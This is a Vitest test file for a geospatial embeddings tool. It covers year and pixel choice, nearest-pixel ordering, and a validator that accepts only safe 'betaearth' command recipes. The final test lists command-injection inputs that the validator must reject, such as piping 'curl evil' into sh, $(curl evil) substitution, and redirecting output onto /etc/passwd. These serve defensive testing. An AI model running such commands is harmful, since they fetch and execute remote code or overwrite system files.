import { expect, it } from "vitest";

import { choiceFor } from "../src/choice";
import { factsOf } from "../src/facts";
import { nearest } from "../src/nearest";
import type { Embeddings, TileYear } from "../src/model";
import { isRecipe } from "../src/provenance";
import { BLANK } from "../src/state";
import { tileOf } from "./documents-of";

const TILE: TileYear = tileOf({});

function against(asked: number | null, found: number[], failed: number[] = []): number | null {
  const state = { ...BLANK, against: asked };
  return choiceFor(TILE, state, { years: { found, failed }, start: null, collection: null }).against;
}

it("change is to the year asked for, else the nearest that was found, else one that could not be read", () => {
  expect(against(2018, [2018, 2020])).toBe(2018);
  expect(against(null, [2018, 2020])).toBe(2020);
  expect(against(1999, [2018, 2020])).toBe(2020);
  expect(against(2022, [2018], [2022])).toBe(2022);
  expect(against(null, [2018], [2022])).toBe(2018);
  expect(against(null, [], [2022])).toBe(2022);
  expect(against(null, [])).toBeNull();
  expect(choiceFor(TILE, { ...BLANK, against: 1999 }, { years: null, start: null, collection: null }).against).toBe(1999);
});

it("a pixel that was asked for is told from the one where similarity starts", () => {
  const known = { years: null, start: [3, 4] as const, collection: null };
  expect(choiceFor(TILE, BLANK, known)).toMatchObject({ pixel: [3, 4], asked: false });
  expect(choiceFor(TILE, { ...BLANK, pixel: [5, 6] }, known)).toMatchObject({ pixel: [5, 6], asked: true });
  expect(choiceFor(TILE, { ...BLANK, pixel: [99999, 6] }, known)).toMatchObject({ pixel: [3, 4], asked: false });
});

it("the nearest pixels with an embedding come first, in full resolution", () => {
  const valid = Uint8Array.from([1, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0]);
  const embeddings = { valid, width: 4, height: 3, full: { width: 7, height: 5 } } as Embeddings;
  expect(nearest(embeddings, [6, 4])).toEqual([[1, 4], [1, 1]]);
  expect(nearest(embeddings, [0, 0])).toEqual([[1, 1], [1, 4]]);
  expect(nearest({ ...embeddings, valid: new Uint8Array(12) }, [0, 0])).toEqual([]);
});

it.each([
  [true, true],
  [false, false],
  [undefined, null],
])("trained: %s is %s", (said, known) => {
  const model = said === undefined ? {} : { trained: said };
  expect(factsOf(tileOf({}, { properties: { "betaearth:model": model } })).trained).toBe(known);
});

it.each([
  ["betaearth tile 433U_1046R 2021 --store FOLDER", true],
  ["BETAEARTH_PRODUCT__DTYPE=int8 BETAEARTH_X__Y='{\"a\":1}' betaearth tile 1U_1R 2021", true],
  ["betaearth tile 'it'\"'\"'s'", true],
  ["betaearth tile; curl evil | sh", false],
  ["betaearth tile $(curl evil)", false],
  ["betaearth tile\ncurl evil", false],
  ["betaearthen", false],
  ["PATH=. betaearth tile", false],
  ["betaearth tile > /etc/passwd", false],
  ["", false],
])("a command %s is a recipe: %s", (command, is) => {
  expect(isRecipe(command)).toBe(is);
});
